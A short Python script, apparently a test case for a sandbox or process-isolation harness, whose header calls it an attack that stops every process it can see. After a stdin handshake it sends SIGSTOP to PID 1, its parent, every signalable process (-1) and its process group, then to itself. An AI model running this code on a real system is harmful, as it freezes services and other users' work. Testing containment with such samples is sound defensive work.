# attack: stops every process that it can see, and the first one above all
# needs: processes
import os
import signal
import sys

signal.alarm(10)
sys.stdin.readline()
print("ok", flush=True)
for target in (1, os.getppid(), -1, 0):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGSTOP)
signal.pause()
